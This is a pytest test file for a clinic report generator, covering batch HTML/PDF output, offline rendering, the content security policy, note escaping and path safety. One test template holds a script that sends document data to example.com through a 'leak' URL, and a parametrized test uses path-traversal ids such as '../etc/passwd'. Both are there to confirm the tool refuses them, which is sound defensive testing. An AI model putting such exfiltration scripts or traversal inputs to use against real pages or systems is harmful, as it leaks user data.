"""Report batches: the clinic run over the demo patients, its offline HTML and PDF, and its
failures.

Kernel starts are the expensive part (seconds each), so the real report notebook runs once, in
one module-scoped `backlib report --all` over the three demo patients; most tests read its
output. One more small batch runs a stand-in notebook that fails for one patient.
"""

from __future__ import annotations

import re
import stat
from pathlib import Path

import papermill
import pytest
from report_support import (
    ESCAPED_NOTE,
    ESCAPED_URL_NOTE,
    NOTE,
    URL_NOTE,
    card_value,
    html_notebook,
    stand_in_notebook,
    visit_in_chromium,
)

from backlib import report
from backlib.cli import main
from backlib.display import pain_text
from backlib.errors import ReportError
from backlib.report import batch, html_parts, offline, pipeline

HAS_CHROMIUM = pipeline.CHROMIUM_PATH.is_file()


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def clinic_run(demo_store, tmp_path_factory) -> tuple[int, Path]:
    """`backlib report --all` over the demo store: HTML and PDF, two workers, a note that is a
    script tag and mentions URLs."""
    out = tmp_path_factory.mktemp("reports")
    args = ["report", "--all", "--store", demo_store, "--out", str(out), "--jobs", "2"]
    args += ["--note", f"{NOTE} {URL_NOTE}"]
    if HAS_CHROMIUM:
        args.append("--pdf")
    return main(args), out


@pytest.fixture(scope="module")
def demo_html(clinic_run) -> str:
    return (clinic_run[1] / "demo-1.html").read_text(encoding="utf-8")


# --------------------------------------------------------------------------- the notebook


def test_report_notebook_parameters_are_inspectable_with_help():
    parameters = papermill.inspect_notebook(str(report.REPORT_NOTEBOOK))
    assert list(parameters) == [
        "patient",
        "store_url",
        "start",
        "end",
        "clinician_note",
        "clinic",
        "clinician",
    ]
    assert parameters["patient"]["default"] == '"demo-1"'
    assert all(p["inferred_type_name"] == "str" for p in parameters.values())
    assert all(p["help"] for p in parameters.values())


# --------------------------------------------------------------------------- the clinic run


def test_all_writes_one_report_per_demo_patient_and_an_index(clinic_run):
    code, out = clinic_run
    assert code == 0
    for patient_id in ("demo-1", "demo-2", "demo-3"):
        assert (out / f"{patient_id}.html").is_file()
    index = (out / "index.html").read_text(encoding="utf-8")
    for patient_id in ("demo-1", "demo-2", "demo-3"):
        assert f'href="{patient_id}.html"' in index


def test_report_shows_the_headline_numbers_that_progress_assess_computes(demo_html, demo_store):
    from backlib import progress
    from backlib.store import open_store

    with open_store(demo_store) as store:
        sessions = store.sessions("demo-1")
        assessment = progress.assess(sessions, store.outcomes("demo-1"))
    assert card_value(demo_html, "sessions") == str(len(sessions))
    assert card_value(demo_html, "pain_baseline") == pain_text(assessment.baseline)
    assert card_value(demo_html, "pain_current") == pain_text(assessment.current)
    assert card_value(demo_html, "pain_change") == pain_text(assessment.change, signed=True)
    verdict, _tone = html_parts.change_verdict(
        html_parts.Headline(
            "demo-1",
            "",
            None,
            None,
            0,
            3,
            None,
            0,
            None,
            None,
            assessment.change,
            None,
            assessment.improved,
        )
    )
    assert verdict in demo_html
    for flag in assessment.flags:
        assert html_parts.escape(flag.message) in demo_html


def test_index_lists_the_same_headline_figures_as_the_report(clinic_run, demo_html):
    index = (clinic_run[1] / "index.html").read_text(encoding="utf-8")
    row = re.search(r'<tr data-patient="demo-1">(.*?)</tr>', index).group(1)
    baseline = card_value(demo_html, "pain_baseline")
    current = card_value(demo_html, "pain_current")
    assert f"{baseline} → {current}" in row


def test_report_loads_nothing_from_the_network(demo_html):
    assert '<script src="http' not in demo_html
    assert pipeline.external_references(demo_html) == []
    assert "require.min.js" not in demo_html
    assert "mathjax/" not in demo_html.lower()


def test_every_report_page_and_the_index_carry_the_content_security_policy(clinic_run):
    policy = (
        f'<meta http-equiv="Content-Security-Policy" content="{offline.CONTENT_SECURITY_POLICY}">'
    )
    pages = sorted(clinic_run[1].glob("*.html"))
    assert [page.name for page in pages] == [
        "demo-1.html",
        "demo-2.html",
        "demo-3.html",
        "index.html",
    ]
    for page in pages:
        text = page.read_text(encoding="utf-8")
        head = text[: text.index("</head>")]
        assert policy in head, page.name
        assert head.index(policy) < head.index("<style"), f"{page.name}: the policy comes first"


def test_notes_that_only_mention_urls_render_as_text(clinic_run):
    code, out = clinic_run
    assert code == 0
    demo_2 = (out / "demo-2.html").read_text(encoding="utf-8")
    assert demo_2.count(ESCAPED_URL_NOTE) == 2  # the session note and the clinician's note
    assert "report failed" not in (out / "index.html").read_text(encoding="utf-8")


@pytest.mark.skipif(not HAS_CHROMIUM, reason="Chromium is not installed")
def test_charts_and_handout_still_draw_under_the_content_security_policy(clinic_run):
    with visit_in_chromium(clinic_run[1] / "demo-1.html") as visit:
        visit.page.wait_for_selector(".js-plotly-plot .main-svg", timeout=30_000)
        charts = visit.page.locator(".plotly-graph-div").count()
        drawn = visit.page.locator(".plotly-graph-div:has(.main-svg)").count()
        # demo-1 has a programme, so the part to take home is its sheet (else the handout),
        # set into the report's flow.
        part = ".bl-take-home .bl-sheet, .bl-take-home .bl-handout"
        handout_text = visit.page.locator(part).first.inner_text(timeout=10_000)
        # Its own styles apply inside it (the sheet's serif face), the report's stay outside.
        fonts = visit.page.eval_on_selector(
            part,
            "p => [getComputedStyle(p).fontFamily, getComputedStyle(document.body).fontFamily]",
        )
    assert charts >= 1 and drawn == charts
    assert "Stop if" in handout_text and len(handout_text) > 100
    assert "Georgia" in fonts[0] and "Georgia" not in fonts[1]
    assert visit.outside_requests == [] and visit.refused == []


@pytest.mark.skipif(not HAS_CHROMIUM, reason="Chromium is not installed")
def test_a_template_whose_page_reaches_out_gets_no_pdf_and_no_html(demo_store, tmp_path):
    # Loads made by a script pass the export's check (it reads tags, not code): the policy stops
    # them in the browser, and the PDF step refuses the page.
    reaching_out = (
        '<p>looks harmless</p><script>fetch("https://example.com/leak?d=" + document.title)'
        '.catch(() => {}); const image = document.createElement("img");'
        'image.src = "https://example.com/p.gif"; document.body.append(image);</script>'
    )
    out = tmp_path / "out"
    template = html_notebook(tmp_path, reaching_out)
    with pytest.raises(ReportError, match=r"^demo-2: .*tried to load https://example\.com/"):
        report.render("demo-2", demo_store, out_dir=out, pdf=True, notebook=template)
    assert sorted(path.name for path in out.iterdir()) == []


def test_a_template_whose_tags_load_from_the_network_is_refused_before_writing(
    demo_store, tmp_path
):
    template = html_notebook(tmp_path, '<img src="https://example.com/p.gif">')
    out = tmp_path / "out"
    with pytest.raises(ReportError, match="network"):
        report.render("demo-2", demo_store, out_dir=out, notebook=template)
    assert list(out.iterdir()) == []


def test_report_embeds_plotly_js_once(demo_html):
    # plotly.min.js opens with its licence banner: one copy, however many charts.
    assert demo_html.count("* plotly.js v") == 1
    assert demo_html.count('class="plotly-graph-div"') >= 1


def test_report_leaves_out_code_and_the_notebooks_own_notes(demo_html):
    assert "report_data.load_report" not in demo_html
    assert "papermill --help-notebook" not in demo_html
    assert "HTML(html_parts." not in demo_html
    assert "from IPython.display import HTML" not in demo_html


def test_notes_with_markup_appear_escaped(demo_html):
    assert NOTE not in demo_html
    assert demo_html.count(ESCAPED_NOTE) >= 2  # the session note and the clinician's note


def test_reports_are_readable_by_the_owner_only(clinic_run):
    out = clinic_run[1]
    for path in [*out.glob("*.html"), *out.glob("*.pdf")]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name


@pytest.mark.skipif(not HAS_CHROMIUM, reason="Chromium is not installed")
def test_pdf_is_printed_beside_each_report(clinic_run):
    out = clinic_run[1]
    for patient_id in ("demo-1", "demo-2", "demo-3"):
        pdf = out / f"{patient_id}.pdf"
        assert pdf.read_bytes()[:5] == b"%PDF-"
        assert pdf.stat().st_size > 20_000  # the charts are drawn, not blank pages
    index = (out / "index.html").read_text(encoding="utf-8")
    assert 'href="demo-1.pdf"' in index


# --------------------------------------------------------------------------- failures


def test_one_failing_patient_does_not_stop_the_others(demo_store, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(batch, "REPORT_NOTEBOOK", stand_in_notebook(tmp_path, "demo-2"))
    out = tmp_path / "out"
    code = main(["report", "--all", "--store", demo_store, "--out", str(out), "--jobs", "2"])
    assert code != 0
    assert (out / "demo-1.html").is_file()
    assert (out / "demo-3.html").is_file()
    assert not (out / "demo-2.html").exists()
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "report failed" in index and "no usable sessions for demo-2" in index
    assert "demo-2" in capsys.readouterr().err


def test_cli_renders_a_clinics_own_template_given_with_notebook(demo_store, tmp_path, capsys):
    template = stand_in_notebook(tmp_path)
    out = tmp_path / "out"
    code = main(
        [
            "report",
            "--patient",
            "demo-2",
            "--store",
            demo_store,
            "--out",
            str(out),
            "--notebook",
            str(template),
        ]
    )
    assert code == 0
    page = (out / "demo-2.html").read_text(encoding="utf-8")
    assert "report for demo-2" in page and "Stand-in report" in page


def test_unknown_patient_gets_an_error_listing_the_known_ids(demo_store, tmp_path):
    with pytest.raises(ReportError, match=r"demo-9.*known: demo-1, demo-2, demo-3"):
        report.render("demo-9", demo_store, out_dir=tmp_path)
    assert not any(tmp_path.iterdir())


def test_cli_reports_an_unknown_patient_with_exit_code_2(demo_store, tmp_path, capsys):
    code = main(["report", "--patient", "nobody", "--store", demo_store, "--out", str(tmp_path)])
    assert code == 2
    assert "known: demo-1, demo-2, demo-3" in capsys.readouterr().err


@pytest.mark.parametrize(
    "patient_id", ["../etc/passwd", "a/b", "..", ".hidden", "Demo-1", "", "x" * 65, "a\\b"]
)
def test_patient_ids_that_could_leave_the_output_folder_are_refused(patient_id, tmp_path):
    with pytest.raises(ReportError, match="not a patient id"):
        report.output_path(tmp_path, patient_id, ".html")


def test_output_path_stays_inside_the_output_folder(tmp_path):
    path = report.output_path(tmp_path / "reports", "demo-1", ".html")
    assert path == (tmp_path / "reports" / "demo-1.html").resolve()
